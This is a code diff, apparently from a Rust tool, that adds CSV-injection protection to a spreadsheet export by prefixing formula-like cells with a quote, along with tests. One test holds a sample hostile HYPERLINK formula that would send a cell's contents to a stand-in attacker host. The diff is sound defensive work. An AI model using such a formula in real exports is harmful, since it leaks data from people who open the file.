@@ -13,6 +13,26 @@ use crate::safe_text::visible;
 /// page and shows Chinese as mojibake.
 const BOM: &[u8] = b"\xEF\xBB\xBF";
 
+/// Makes a cell safe to open in a spreadsheet (OWASP's advice on CSV injection): a
+/// cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return would be
+/// taken as a formula, so it gets a leading `'`, which spreadsheets show as text.
+/// A cell that already begins with `'` gets one too, so the rule can be undone
+/// exactly: [`restore`] gives back the original text.
+pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
+/// The text of a cell as dsw wrote it through [`neutralise`].
+pub fn restore(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) => rest,
+        _ => cell,
+    }
+}
+
 /// The header row.
 fn header(lang: Lang) -> [&'static str; 7] {
     match lang {
@@ -71,10 +91,12 @@ pub fn questions(document: &Document<'_>, bom: bool) -> Vec<u8> {
     }));
     for record in records {
         // Line breaks are kept: quoting keeps them inside the cell.
-        let record = record.iter().map(|field| visible(field, true));
+        let record = record
+            .iter()
+            .map(|field| neutralise(&visible(field, true)).into_owned());
         // Writing to memory cannot fail, and every record has the same seven fields.
         writer
-            .write_record(record.map(|field| field.into_owned()))
+            .write_record(record)
             .expect("writing CSV to memory cannot fail");
     }
     writer
@@ -180,6 +202,37 @@ mod tests {
         assert_eq!(rows.len(), 126);
         assert!(rows.iter().all(|r| r.len() == 7));
         assert!(rows.iter().all(|r| &r[3] == "todo" || r[1].is_empty()));
+    }
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised_and_restorable() {
+        for text in [
+            "=1+1", "+886", "-1", "@SUM(A1)", "\tx", "'=quoted", "'plain", "普通",
+        ] {
+            let cell = neutralise(text);
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell}"
+            );
+            assert_eq!(restore(&cell), text);
+        }
+        let catalog = crate::form::Catalog::bundled().expect("bundled");
+        let form = &catalog.form("ict-plan").unwrap().form;
+        let mut assessment = Assessment::new(form);
+        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+        assessment.set_answer("1.1.1", hostile);
+        let document = Document {
+            assessment: &assessment,
+            form,
+            guidelines: &catalog.guidelines,
+            brics: &catalog.brics,
+            revision: None,
+            lang: Lang::Zh,
+        };
+        let (_, rows) = read(&questions(&document, false));
+        let cell = &rows[0][6];
+        assert!(cell.starts_with("'=HYPERLINK"), "{cell}");
+        assert_eq!(restore(cell), hostile);
     }
 
     #[test]
